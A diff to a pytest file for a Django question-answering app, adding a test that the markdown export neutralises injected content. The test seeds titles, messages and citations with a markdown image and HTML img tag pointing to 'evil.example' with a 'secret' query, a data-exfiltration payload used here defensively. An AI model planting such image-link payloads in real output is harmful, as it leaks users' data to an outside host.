@@ -4,10 +4,11 @@ import json
 
 import pytest
 from django.urls import reverse
+from markdown_it import MarkdownIt
 
 from answers import answering, conversations, exporting, regions, transcripts
 from answers.attachments import Attached
-from answers.models import Conversation, Message
+from answers.models import Citation, Conversation, Message
 from answers.readers import ReaderDelta
 from ingestion.models import Collection, Document
 from ingestion.pdf_library import load_library
@@ -50,6 +51,18 @@ def test_markdown_holds_questions_answers_and_sources(export):
     sources = text.partition("### Sources")[2]
     assert "\\[1\\] Handbook, page 1a: “Employees get 25 days of leave per year.”" in sources
     assert "\\[2\\]" not in sources
+
+
+def test_nothing_in_a_file_leads_away(export, conversation):
+    live = "![x](http://evil.example/?q=secret) <img src=http://evil.example>"
+    conversations.rename(conversation, title=live)
+    Message.objects.update(content=live)
+    Document.objects.update(title=live)
+    Citation.objects.update(document_title=f"${live}$")
+    html = MarkdownIt("commonmark", {"html": True}).render(export("markdown").content.decode())
+    assert html.count("evil.example") == 8
+    assert "<img" not in html
+    assert "<a " not in html
 
 
 def test_a_pdf_can_be_read_and_lists_the_sources(export):
